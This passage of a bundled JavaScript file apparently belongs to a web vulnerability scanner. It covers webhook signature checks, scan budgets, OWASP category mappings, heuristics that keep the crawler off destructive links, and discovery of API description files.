export const id = "engine-run";

export const ids = [ "engine-run" ];

export const modules = {
64715: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.d(__webpack_exports__, {
D8: () => SIGNATURE_HEADER,
Ob: () => InvalidSignature,
e3: () => checkSignatureHeader
});
const SIGNATURE_HEADER = "service-signature";
class SignatureError extends Error {
code;
constructor(code, message) {
super(message);
this.name = code;
this.code = code;
}
}
class ExpiredSignature extends SignatureError {
constructor(message) {
super("expired_signature", message);
}
}
class InvalidSignature extends SignatureError {
constructor(message) {
super("invalid_signature", message);
}
}
function checkSignatureHeader(header, secrets, nowSeconds, toleranceSeconds) {
if (secrets.length === 0 || secrets.includes("")) {
throw new InvalidSignature("The subscription secret is empty.");
}
const parsed = parseHeader(header ?? "");
if (parsed === undefined) {
throw new InvalidSignature(`The ${SIGNATURE_HEADER} header is missing or malformed.`);
}
const distance = Math.abs(nowSeconds - parsed.timestamp);
if (distance > toleranceSeconds) {
throw new ExpiredSignature(`The signature is ${Math.ceil(distance)} seconds away from now, more than ${toleranceSeconds}: a replay, or a wrong clock.`);
}
return parsed;
}
function parseHeader(header) {
if (header.length > 2048) return undefined;
const parts = header.split(",");
if (parts.length > 16) return undefined;
let timestamp;
const versions = [];
for (const part of parts) {
const separator = part.indexOf("=");
if (separator < 0) return undefined;
const key = part.slice(0, separator).trim();
const value = part.slice(separator + 1).trim();
if (key === "t") {
if (timestamp !== undefined || !/^[0-9]{1,12}$/.test(value)) return undefined;
timestamp = Number(value);
} else if (key === "v1") {
versions.push(value);
}
}
return timestamp === undefined || versions.length === 0 ? undefined : {
timestamp: timestamp,
versions: versions
};
}
},
46697: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.d(__webpack_exports__, {
O: () => verifySignature,
c: () => signPayload
});
var node_crypto__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(77598);
var _limits_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(83163);
var _signature_header_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(64715);
function digest(secret, timestamp, rawBody) {
return (0, node_crypto__WEBPACK_IMPORTED_MODULE_0__.createHmac)("sha256", secret).update(`${timestamp}.`).update(rawBody).digest("hex");
}
function signPayload(secrets, timestamp, rawBody) {
const versions = secrets.map(secret => `v1=${digest(secret, timestamp, rawBody)}`);
return [ `t=${timestamp}`, ...versions ].join(",");
}
function verifySignature(rawBody, header, secret, nowSeconds = Math.floor(Date.now() / 1e3)) {
if (!(rawBody instanceof Uint8Array)) {
throw new TypeError("rawBody must be the received bytes (Uint8Array or Buffer), not a parsed or re-serialised body");
}
if (!Number.isFinite(nowSeconds) || nowSeconds < 0) {
throw new RangeError("nowSeconds must be a Unix time in seconds, finite and not negative");
}
const {timestamp: timestamp, versions: versions} = (0, _signature_header_js__WEBPACK_IMPORTED_MODULE_2__.e3)(header, [ secret ], nowSeconds, _limits_js__WEBPACK_IMPORTED_MODULE_1__.b.signatureToleranceSeconds);
const expected = Buffer.from(digest(secret, timestamp, rawBody), "utf8");
const genuine = versions.some(version => {
const received = Buffer.from(version, "utf8");
return received.length === expected.length && (0, node_crypto__WEBPACK_IMPORTED_MODULE_0__.timingSafeEqual)(received, expected);
});
if (!genuine) throw new _signature_header_js__WEBPACK_IMPORTED_MODULE_2__.Ob("No v1 signature matches the body: it has another secret, or was changed on the way.");
}
},
95126: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.d(__webpack_exports__, {
__: () => Budget,
bJ: () => BUDGETS,
nT: () => budgetOf
});
const MEBIBYTE = 1024 * 1024;
const BUDGETS = {
quick: {
requests: 60,
connections: 45,
bytes: 16 * MEBIBYTE,
seconds: 20
},
standard: {
requests: 1500,
connections: 160,
bytes: 256 * MEBIBYTE,
seconds: 120
},
compliance: {
requests: 4e3,
connections: 400,
bytes: 512 * MEBIBYTE,
seconds: 360
}
};
const LOCAL_REQUESTS = {
quick: 60,
standard: 4e3,
compliance: 1e4
};
function budgetOf(scanType, minutes, isLocal = false) {
const limits = BUDGETS[scanType];
const seconds = scanType === "quick" || minutes === undefined ? limits.seconds : minutes * 60;
const ceiling = isLocal ? LOCAL_REQUESTS[scanType] : limits.requests;
return {
...limits,
requests: Math.round(ceiling * Math.max(1, seconds / limits.seconds)),
seconds: seconds
};
}
const SHARES = {
first: .3,
crawl: .4,
browser: .7,
active: .92
};
const CLOSING_INTERVALS = 20;
const CLOSING_SHARES = {
min: .04,
max: .16
};
class Budget {
limits;
#startedAt;
#used={
requests: 0,
connections: 0,
bytes: 0,
seconds: 0
};
#exhausted=new Set;
#held=0;
#raised=0;
#granted=0;
constructor(limits) {
this.limits = limits;
this.#startedAt = performance.now();
}
hold(requests) {
this.#held = requests;
}
#maximum(resource) {
if (resource !== "requests") return this.limits[resource];
return Math.max(this.limits.requests, this.#raised) + this.#granted;
}
raiseRequests(maximum) {
this.#raised = maximum;
}
grantRequest() {
this.#granted += 1;
}
room(phase) {
const share = SHARES[phase];
const late = Math.max(this.limits.seconds * 1e3 * (1 - share), this.#closingMs());
const kept = Math.ceil(this.#maximum("requests") * (1 - share));
return {
milliseconds: Math.max(0, Math.floor(this.millisecondsLeft - late)),
requests: Math.max(0, this.requestsLeft - kept),
share: Math.floor(this.#maximum("requests") * share)
};
}
#closingMs() {
const limit = this.limits.seconds * 1e3;
const interval = (limit - this.millisecondsLeft) / Math.max(1, this.requests);
return Math.min(limit * CLOSING_SHARES.max, Math.max(limit * CLOSING_SHARES.min, interval * CLOSING_INTERVALS));
}
take(resource) {
const held = resource === "requests" ? this.#held : 0;
if (held > 0 && this.millisecondsLeft <= this.#closingMs()) {
this.#exhausted.add("seconds");
return false;
}
if (this.#used[resource] >= this.#maximum(resource) - held) {
this.#exhausted.add(resource);
return false;
}
this.#used[resource] += 1;
return true;
}
addBytes(count) {
this.#used.bytes += count;
if (this.#used.bytes >= this.limits.bytes) this.#exhausted.add("bytes");
}
get bytesLeft() {
return Math.max(0, this.limits.bytes - this.#used.bytes);
}
get requestsLeft() {
return Math.max(0, this.#maximum("requests") - this.#held - this.#used.requests);
}
get requests() {
return this.#used.requests;
}
get requestsMax() {
return this.#maximum("requests");
}
get millisecondsLeft() {
return Math.max(0, this.limits.seconds * 1e3 - (performance.now() - this.#startedAt));
}
endWallClock() {
this.#exhausted.add("seconds");
}
toReport() {
const seconds = Math.round(performance.now() - this.#startedAt) / 1e3;
const spent = (resource, used = this.#used[resource]) => ({
used: used,
allowed: this.#maximum(resource)
});
return {
requests: spent("requests"),
connections: spent("connections"),
bytes: spent("bytes"),
seconds: spent("seconds", seconds),
exhausted: [ ...this.#exhausted ].sort()
};
}
}
},
86219: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.d(__webpack_exports__, {
uZ: () => OWASP_API_TOP_10,
jK: () => OWASP_TOP_10,
Yh: () => owaspApiTitles,
sb: () => owaspOf,
j7: () => owaspTitle
});
const owasp_namespaceObject = JSON.parse('{"$h":[{"id":"A01:2025","name":"Broken Access Control","cwe":["22 23 36 59 61 65 200 201 219 276 281 282 283 284 285 352 359 377 379 402 424 425 441 497","538 540 548 552 566 601 615 639 668 732 749 862 863 918 922 1275"]},{"id":"A02:2025","name":"Security Misconfiguration","cwe":["5 11 13 15 16 260 315 489 526 547 611 614 776 942 1004 1174"]},{"id":"A03:2025","name":"Software Supply Chain Failures","cwe":["447 1035 1104 1329 1357 1395"]},{"id":"A04:2025","name":"Cryptographic Failures","cwe":["261 296 319 320 321 322 323 324 325 326 327 328 329 330 331 332 334 335 336 337 338 340","342 347 523 757 759 760 780 916 1240 1241"]},{"id":"A05:2025","name":"Injection","cwe":["20 74 76 77 78 79 80 83 86 88 89 90 91 93 94 95 96 97 98 99 103 104 112 113 114 115 116","129 159 470 493 500 564 610 643 644 917"]},{"id":"A06:2025","name":"Insecure Design","cwe":["73 183 256 266 269 286 311 312 313 316 362 382 419 434 436 444 451 454 472 501 522 525 539","598 602 628 642 646 653 656 657 676 693 799 807 841 1021 1022 1125"]},{"id":"A07:2025","name":"Authentication Failures","cwe":["258 259 287 288 289 290 291 293 294 295 297 298 299 300 302 303 304 305 306 307 308 309","346 350 384 521 613 620 640 798 940 941 1390 1391 1392 1393"]},{"id":"A08:2025","name":"Software or Data Integrity Failures","cwe":["345 353 426 427 494 502 506 509 565 784 829 830 915 926"]},{"id":"A09:2025","name":"Security Logging and Alerting Failures","cwe":["117 221 223 532 778"]},{"id":"A10:2025","name":"Mishandling of Exceptional Conditions","cwe":["209 215 234 235 248 252 274 280 369 390 391 394 396 397 460 476 478 484 550 636 703 754","755 756"]}],"FH":[{"id":"API1:2023","name":"Broken Object Level Authorization","checks":["api.bola","access.broken-object-level"]},{"id":"API2:2023","name":"Broken Authentication","checks":["api.broken-authentication","api.jwt-expired-accepted","api.jwt-header-key","api.jwt-key-confusion","api.jwt-kid-injection","api.jwt-none","api.jwt-signature-ignored","api.jwt-weak-key","api.user-enumeration","api.graphql-batching","access.session-after-sign-out","access.session-fixation"]},{"id":"API3:2023","name":"Broken Object Property Level Authorization","checks":["api.mass-assignment","api.secret-properties","api.undocumented-properties"]},{"id":"API4:2023","name":"Unrestricted Resource Consumption","checks":["api.graphql-batching","api.graphql-depth"]},{"id":"API5:2023","name":"Broken Function Level Authorization","checks":["api.bfla","api.verb-tampering","access.broken-function-level"]},{"id":"API6:2023","name":"Unrestricted Access to Sensitive Business Flows","checks":[]},{"id":"API7:2023","name":"Server Side Request Forgery","checks":["active.ssrf"]},{"id":"API8:2023","name":"Security Misconfiguration","checks":["api.graphql-get-mutations","api.graphql-introspection","api.graphql-suggestions","api.server-error","access.cache-deception","content.stack-trace","cors.null-origin","cors.reflect-credentials","cors.weak-match"]},{"id":"API9:2023","name":"Improper Inventory Management","checks":["exposure.api-docs"]},{"id":"API10:2023","name":"Unsafe Consumption of APIs","checks":[]}]}');
const OWASP_API_TOP_10 = owasp_namespaceObject.FH;
function owaspApiTitles(checkId) {
return OWASP_API_TOP_10.filter(({checks: checks}) => checks.includes(checkId)).map(({id: id, name: name}) => `${id} ${name}`);
}
const OWASP_TOP_10 = owasp_namespaceObject.$h.map(({cwe: cwe, ...category}) => ({
...category,
cwe: cwe.flatMap(line => line.split(" ").map(Number))
}));
const CATEGORY_OF = new Map(OWASP_TOP_10.flatMap(({id: id, cwe: cwe}) => cwe.map(number => [ `CWE-${number}`, id ])));
function owaspOf(cwe) {
return [ ...new Set(cwe.flatMap(id => CATEGORY_OF.get(id) ?? [])) ].sort();
}
function owaspTitle(id) {
const category = OWASP_TOP_10.find(entry => entry.id === id);
return category === undefined ? id : `${category.id} ${category.name}`;
}
},
86692: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.d(__webpack_exports__, {
$8: () => ownHeaders,
Kc: () => hasPlaceholder,
Wn: () => urlsOf,
cu: () => identityOf
});
function urlsOf({requests: requests, page: page, location: location}) {
const read = requests.filter(({method: method}) => method === "GET" || method === "HEAD").map(({url: url}) => url);
const seen = [ ...read, ...page === null ? [] : [ page ], .../^https?:/.test(location.url) ? [ location.url ] : [] ];
return [ ...new Set(seen.map(url => url.split("#", 1)[0] ?? url)) ];
}
function ownHeaders({headers: headers}) {
return headers.filter(({value: value}) => !hasPlaceholder(value)).map(({name: name, value: value}) => [ name, value ]);
}
function hasPlaceholder(text) {
return text.includes("${SCAN_GATE_");
}
function identityOf({headers: headers}) {
const secret = headers.map(({value: value}) => /\$\{SCAN_GATE_(SECOND_|ADMIN_)?/.exec(value)).find(match => match !== null);
if (secret == null) return "none";
return secret[1] === undefined ? "user" : secret[1] === "SECOND_" ? "second" : "admin";
}
},
33802: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.d(__webpack_exports__, {
Mk: () => noteNouns,
Z9: () => wordsOf,
f5: () => isActAddress,
jw: () => isUnknownAct
});
var _shared_text_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(89853);
var _data_names_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(27519);
var _url_shape_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(6090);
const ADDRESS_MAX = 2e3;
const WORDS_MAX = 200;
const TITLE_WORDS = 4;
const NOUN_ENDING = /(?:[ts]ion|ment|ity|ness|tory|gory|graphy|ship|ing|ci[oó]n|dad|schaft|keit|heit)$/;
const FORMAT = /\.(?:html?|xhtml|json|xml)$/i;
const TEMPLATE = /^(?:\{[^{}]*\}|:\w+)$/;
const YEAR = /^(?:19|20)\d\d$/;
function wordsOf(text) {
return text.slice(0, ADDRESS_MAX).normalize("NFC").replace(/(\p{Ll})(\p{Lu})/gu, "$1 $2").toLowerCase().split(/[^\p{L}\p{M}]+/u).filter(word => word !== "").slice(0, WORDS_MAX);
}
function isAct(word) {
return (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("acts", word) || (0, 
_data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("harmful", word);
}
function isIdText(text) {
if (TEMPLATE.test(text) || /^[^@]{1,64}@[^@]{1,255}\.[^@.]{1,63}$/.test(text)) return true;
if (text.length > 200 || /^v\d+(?:\.\d+)*$/i.test(text)) return false;
const digits = text.replace(/\D/g, "").length;
return /^\d+$/.test(text) || /^[\w.~:-]+$/.test(text) && !(0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.yW)("program-file", text) && digits > 2;
}
function segmentsOf(url) {
const shapes = (0, _url_shape_js__WEBPACK_IMPORTED_MODULE_1__.j4)(url).split("/").slice(1);
const texts = url.pathname.slice(0, ADDRESS_MAX).split("/").slice(1);
return texts.flatMap((raw, index) => {
const text = (0, _shared_text_js__WEBPACK_IMPORTED_MODULE_2__.oF)(raw).replace(/;.*/s, "");
const parts = methodParts(text);
if (parts !== null) return parts.map(part => segmentOf(part, isIdText(part)));
const isDate = YEAR.test(text) || /^\d{1,2}$/.test(text) && YEAR.test(texts[index - 1] ?? "");
return [ segmentOf(text, !isDate && (isIdText(text) || /^\{(?:n|id)\}$/.test(shapes[index] ?? ""))) ];
});
}
function segmentOf(text, isId) {
const name = withoutEnding(text).replace(FORMAT, "");
return {
text: text,
words: isId ? [] : wordsOf(name),
isId: isId
};
}
function withoutEnding(text) {
const isFile = (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.yW)("program-file", text) || (0, 
_data_names_js__WEBPACK_IMPORTED_MODULE_0__.yW)("document-file", text);
return isFile ? text.slice(0, text.lastIndexOf(".")) : text;
}
function methodParts(text) {
const custom = /^([^:]{1,200}):(\p{L}[\p{L}\p{M}\d_-]{0,99})$/u.exec(text);
if (custom !== null && isIdText(custom[1] ?? "")) return custom.slice(1);
const [, name, key = ""] = /^([\w.]{1,100})\(([^()]{1,200})\)$/.exec(text) ?? [];
const id = key.replace(/^(?:\w{1,50}=)?(?:guid)?'?([^']*)'?$/, "$1");
return name !== undefined && isIdText(id) ? [ name, id ] : null;
}
function idsOfQuery(url) {
const pairs = [ ...url.searchParams ].slice(0, 50);
return pairs.some(([name, value]) => value !== "" && !(0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("not-an-id", name) && isIdText(value));
}
function isActAddress(url, text = "") {
const segments = segmentsOf(url);
const said = wordsOf(text.slice(0, 100));
const hasId = segments.some(({isId: isId}) => isId) || idsOfQuery(url);
if (hasId && said.length <= 2 && (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("acts", said[0] ?? "")) return true;
const isNamed = [ ...url.searchParams ].slice(0, 50).some(([name, value]) => {
if ((0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("verb-place", name)) return wordsOf(value).some(word => (0, 
_data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("acts", word));
return (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("acts", name) && (value === "" || /^(?:true|yes|on)$/i.test(value) || isIdText(value));
});
if (isNamed) return true;
const firstId = segments.findIndex(({isId: isId}) => isId);
return segments.some(({words: words}, index) => {
if (!startsWithAct(words)) return false;
const isLast = index === segments.length - 1;
if (firstId !== -1 && index > firstId) return true;
if (words.length > 1 && words.slice(1).every(word => (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("object", word))) return true;
if (isLast && words.length === 1 && isDoneTo(segments.slice(0, index))) return true;
return words.length === 1 && ((segments[index + 1]?.isId ?? false) || isLast && idsOfQuery(url));
});
}
function isDoneTo(before) {
const last = before.at(-1)?.words ?? [];
if (last.length === 0) return false;
if (last.every(word => (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("object", word)) || last.length === 1 && (0, 
_data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("verb-place", last[0] ?? "")) return true;
const [collection = "", ...others] = before.at(-2)?.words ?? [];
return others.length === 0 && /^\p{L}{2,}[^su]s$/u.test(collection) && !(0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("text-collection", collection);
}
function startsWithAct(words) {
const counted = words.length >= TITLE_WORDS ? words.slice(0, 1) : words;
return counted.some(word => (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("acts", word));
}
function isUnknownAct(url, known = new Set) {
const segments = segmentsOf(url);
const isUnread = segments.some((segment, index) => {
const before = segments[index - 1];
if (segment.isId || before === undefined) return false;
const isVerbPlace = before.isId || isPlaceBelowId(segments, index - 1);
const isTitle = !TEMPLATE.test(before.text) && isTitleOf(segment.words);
return isVerbPlace && !isTitle && !isReadSegment(segment, known);
});
if (isUnread) return true;
const hasId = segments.some(({isId: isId}) => isId) || idsOfQuery(url);
return hasId && [ ...url.searchParams ].slice(0, 50).some(([name, value]) => (0, 
_data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("verb-place", name) && !isReadName(wordsOf(value), known));
}
function isPlaceBelowId(segments, index) {
const [word = "", ...others] = segments[index]?.words ?? [];
return others.length === 0 && (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("verb-place", word) && segments[index - 1]?.isId === true;
}
function isReadSegment({text: text, words: words}, known) {
return (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.yW)("document-file", text) && !words.some(isAct) || isReadName(words, known);
}
function isTitleOf(words) {
const [first = ""] = words;
return words.length >= TITLE_WORDS && !isAct(first) && !(0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("begins-instruction", first);
}
function isReadName(words, known) {
const [first = ""] = words;
if (first === "") return true;
if (words.some(isAct)) return false;
return (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("reads", first) || words.every(word => isNoun(word) || known.has(word));
}
function isNoun(word) {
if ((0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("noun", word)) return true;
if ((0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("verb-like-noun", word) || word.length < 4) return false;
return /^[\p{Script=Latin}]+[^su]s$/u.test(word) || word.length > 5 && NOUN_ENDING.test(word) || /ics$/.test(word);
}
const KNOWN_MAX = 2e3;
function noteNouns(url, known) {
const segments = segmentsOf(url);
if (segments.some(({isId: isId}) => isId) || idsOfQuery(url)) return;
const [word, ...others] = segments.at(-1)?.words ?? [];
const isVerbPlace = (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("verb-place", segments.at(-2)?.words[0] ?? "");
if (word !== undefined && others.length === 0 && !isVerbPlace && known.size < KNOWN_MAX) known.add(word);
}
},
56738: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.d(__webpack_exports__, {
Ch: () => isActByGet,
KJ: () => isCodeFile,
Ov: () => isHarmfulLink,
YY: () => isBinaryFile,
af: () => isPathAllowed,
eG: () => isHarmfulForm,
fD: () => isListingOrder,
yi: () => isHarmfulStep,
zN: () => isHarmfulPage
});
var _shared_text_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(89853);
var _data_names_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(27519);
var _web_sign_in_page_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(53221);
var _act_address_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(33802);
var _url_shape_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(6090);
const SETTING = /[?&;](?:do|act|action|cmd|command|op|task)=(?:toggle|switch|enable)(?![a-z])/i;
const STEP_WORDS = new Set([ "checkout", "pay", "buy", "purchase", "transfer" ]);
const ACCOUNT_WORDS = new Set([ "password", "passwd", "pwd", "forgot", "forgotten", "lost" ]);
const CODE_FILE = /\.(?:m?js|cjs|css|map)$/i;
function isHarmfulLink(url, text = "") {
const address = (0, _shared_text_js__WEBPACK_IMPORTED_MODULE_3__.oF)(`${url.pathname}?${url.search}`).slice(0, 4e3);
if ((0, _web_sign_in_page_js__WEBPACK_IMPORTED_MODULE_4__.Cs)({
url: url.href,
text: text
})) return true;
if (SETTING.test(address) || (0, _act_address_js__WEBPACK_IMPORTED_MODULE_1__.f5)(url, text)) return true;
const textWords = (0, _act_address_js__WEBPACK_IMPORTED_MODULE_1__.Z9)(text);
return (0, _act_address_js__WEBPACK_IMPORTED_MODULE_1__.Z9)(address).some(word => (0, 
_data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("harmful", word)) || textWords.length <= 4 && textWords.some(word => (0, 
_data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("harmful", word));
}
function isActByGet(url, text = "", known) {
return isHarmfulLink(url, text) || (0, _act_address_js__WEBPACK_IMPORTED_MODULE_1__.jw)(url, known);
}
function isHarmfulForm(action, method) {
if (method !== "GET") return isHarmfulLink(action);
const filled = new URL(action);
filled.searchParams.set("id", "1");
return isActByGet(filled);
}
function isHarmfulPage(url, text = "", known) {
return (0, _act_address_js__WEBPACK_IMPORTED_MODULE_1__.jw)(url, known) || isHarmfulStep(url, text);
}
function isHarmfulStep(url, text = "") {
if (!isHarmfulLink(url, text)) return false;
if (url.search.length > 1 || (0, _url_shape_js__WEBPACK_IMPORTED_MODULE_2__.j4)(url).includes("{")) return true;
const path = (0, _shared_text_js__WEBPACK_IMPORTED_MODULE_3__.oF)(url.pathname).slice(0, 4e3);
const address = (0, _act_address_js__WEBPACK_IMPORTED_MODULE_1__.Z9)(path);
const said = (0, _act_address_js__WEBPACK_IMPORTED_MODULE_1__.Z9)(text);
const isAboutAccount = [ ...address, ...said ].some(word => ACCOUNT_WORDS.has(word));
const isStep = word => STEP_WORDS.has(word) || word === "reset" && isAboutAccount;
if ((0, _web_sign_in_page_js__WEBPACK_IMPORTED_MODULE_4__.Cs)({
url: `${url.origin}${url.pathname}`,
text: text
}) || (0, _act_address_js__WEBPACK_IMPORTED_MODULE_1__.f5)(url, text)) return true;
return [ ...address, ...said.length <= 4 ? said : [] ].some(word => (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.cP)("harmful", word) && !isStep(word));
}
function isListingOrder(url) {
return /^\?C=[NMSD](?:[;&]O=[AD])?$/.test(url.search);
}
function isBinaryFile(url) {
return (0, _data_names_js__WEBPACK_IMPORTED_MODULE_0__.yW)("binary-file", url.pathname);
}
function isCodeFile(url) {
return CODE_FILE.test(url.pathname);
}
function isPathAllowed(url, limits) {
const path = url.pathname + url.search;
if (limits.exclude_paths?.some(prefix => path.startsWith(prefix)) === true) return false;
return limits.include_paths === undefined || limits.include_paths.length === 0 || limits.include_paths.some(prefix => path.startsWith(prefix));
}
},
61588: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.d(__webpack_exports__, {
ruleCheck: () => ruleCheck
});
var _core_check_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(95139);
var _core_proof_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(31589);
var _core_ratings_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(20422);
function ruleCheck(rule) {
const {id: id, title: title, severity: severity, cwe: cwe = [], fix: fix, references: references = []} = rule;
return (0, _core_check_js__WEBPACK_IMPORTED_MODULE_0__.qH)({
meta: {
id: id,
title: title,
rating: _core_ratings_js__WEBPACK_IMPORTED_MODULE_2__.l[severity],
confidence: "firm",
cwe: cwe,
requirements: {},
scanTypes: [ "quick", "standard", "compliance" ],
what: `${title.replace(/\.$/, "")}.`,
why: "A rule of your own describes it as a weakness.",
proof: rule.proof,
fix: fix,
references: references
},
needs: [ "rules" ],
evaluate: ({rules: rules}) => {
const result = rules.results.get(id);
if (result?.state === "not_applicable") return (0, _core_check_js__WEBPACK_IMPORTED_MODULE_0__.hH)(result.reason);
if (result?.state !== "ran") throw new _core_check_js__WEBPACK_IMPORTED_MODULE_0__.sZ(result?.reason ?? "budget: the scan ended before this rule ran");
return result.hits.map(hit => draftOf(hit, id));
}
});
}
function draftOf({exchange: exchange, path: path, proof: proof, quote: quote, before: before, parameter: parameter, ...hit}, key) {
const {method: method, url: url} = exchange.request;
return {
location: {
url: url,
method: method,
...parameter === undefined ? {} : {
parameter: parameter
}
},
evidence: `${method} ${path} returns ${exchange.response.status}. ${proof}`,
key: key,
proof: {
steps: [ ...before.map(attempt => (0, _core_proof_js__WEBPACK_IMPORTED_MODULE_1__.PM)("control", attempt)), (0, 
_core_proof_js__WEBPACK_IMPORTED_MODULE_1__.PM)("proof", exchange, {
texts: quote
}) ]
},
...hit.isTentative ? {
confidence: "tentative"
} : {},
...hit.title === undefined ? {} : {
title: hit.title
},
...hit.severity === undefined ? {} : {
rating: _core_ratings_js__WEBPACK_IMPORTED_MODULE_2__.l[hit.severity]
}
};
}
},
10357: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.r(__webpack_exports__);
__webpack_require__.d(__webpack_exports__, {
runScan: () => runScan
});
var promises_ = __webpack_require__(71553);
var external_node_timers_promises_ = __webpack_require__(58500);
var contract_login = __webpack_require__(45194);
var target_address = __webpack_require__(863);
var secret_masker = __webpack_require__(53904);
var secret_values = __webpack_require__(87179);
var user_agent = __webpack_require__(28957);
var leaks = __webpack_require__(20936);
var source_map = __webpack_require__(99612);
var html_document = __webpack_require__(55157);
async function analyseResponse(exchange) {
for (const parse of [ html_document.lM, leaks.G, source_map.Y ]) {
parse(exchange);
await (0, external_node_timers_promises_.setImmediate)();
}
}
var description_text = __webpack_require__(94628);
var http = __webpack_require__(91069);
var shared_records = __webpack_require__(9682);
var data_names = __webpack_require__(27519);
var act_address = __webpack_require__(33802);
var link_policy = __webpack_require__(56738);
const VERB_MIN = 4;
const JOINED_MAX = 40;
function joinsObject(word) {
for (let at = VERB_MIN; at < Math.min(word.length, JOINED_MAX); at += 1) if ((0, 
data_names.cP)("joins-object", word.slice(0, at)) && (0, data_names.cP)("object", word.slice(at))) return true;
return false;
}
function wordsOf(name) {
return name.slice(0, 500).replace(/([a-z\d])([A-Z])/g, "$1 $2").toLowerCase().split(/[^a-z]+/).filter(word => word !== "");
}
function namesWriting(path, name = "", summary = "", known) {
const [verb = ""] = wordsOf(summary);
const [first = ""] = wordsOf(name.slice(name.lastIndexOf(".") + 1));
if (wordsOf(path).some(word => (0, data_names.cP)("writes-in-path", word) || joinsObject(word) || (0, 
data_names.cP)("consumes", word))) return true;
if (wordsOf(name).some(word => (0, data_names.cP)("consumes", word))) return true;
if ([ first, verb ].some(word => (0, data_names.cP)("writes", word) || joinsObject(word))) return true;
if (isHarmfulName(path) || isHarmfulName(name)) return true;
return (0, act_address.jw)(addressOf(path), known) && !isSaidToRead(path, name, verb);
}
function isSaidToRead(path, name, verb) {
const reads = word => (0, data_names.cP)("reads", word.replace(/(?<=[a-z]{2})s$/, "")) || (0, 
data_names.cP)("reads", word);
const inPath = new Set(wordsOf(path));
const [first = "", ...others] = wordsOf(name.slice(name.lastIndexOf(".") + 1));
return reads(verb) || reads(first) && others.some(word => !inPath.has(word) && word !== "by");
}
function isHarmfulName(name) {
return (0, link_policy.Ov)(addressOf(name));
}
function addressOf(name) {
const url = new URL("http://name.invalid/");
url.pathname = name.slice(0, 500);
return url;
}
const DESCRIPTION_PATHS = [ "/swagger.json", "/openapi.json", "/openapi.yaml", "/v2/api-docs", "/v3/api-docs", "/api-docs" ];
const FURTHER_DESCRIPTION_PATHS = [ "/api-json", "/swagger/v1/swagger.json", "/openapi/v1.json", "/api/schema/", "/api/v1/_openapi" ];
const TEXT_MAX = 512 * 1024;
const LINKS_MAX = 40;
const NODES_MAX = 5e3;
const DEPTH_MAX = 12;
function jsonLinks(text, base) {
const document = text.length <= TEXT_MAX && /^\s*[[{]/.test(text) ? (0, shared_records.U4)(text) : null;
if (typeof document !== "object" || document === null) return [];
const links = (0, shared_records.u4)(document) && (0, shared_records.u4)(document["paths"]) ? operations(document) : named(document);
const urls = links.flatMap(link => URL.parse(link, base)?.href ?? []);
return [ ...new Set(urls) ].slice(0, LINKS_MAX);
}
function named(document) {
const found = [];
const waiting = [ {
value: document,
depth: 0
} ];
let nodes = 0;
for (let next = waiting.shift(); next !== undefined && nodes < NODES_MAX; next = waiting.shift()) {
nodes += 1;
const {value: value, depth: depth} = next;
if (typeof value === "string") {
if (value.length <= 500 && /^(?:https?:\/\/|\/(?!\/))[^\s<>"{}\\^`|]+$/i.test(value)) found.push(value);
} else if (typeof value === "object" && value !== null && depth < DEPTH_MAX) for (const inner of Object.values(value)) waiting.push({
value: inner,
depth: depth + 1
});
}
return found;
}
function operations(document) {
const paths = (0, shared_records.u4)(document["paths"]) ? document["paths"] : {};
const prefix = prefixOf(document);
return Object.entries(paths).slice(0, LINKS_MAX).flatMap(([path, item]) => {
if (!path.startsWith("/") || !(0, shared_records.u4)(item) || !(0, shared_records.u4)(item["get"])) return [];
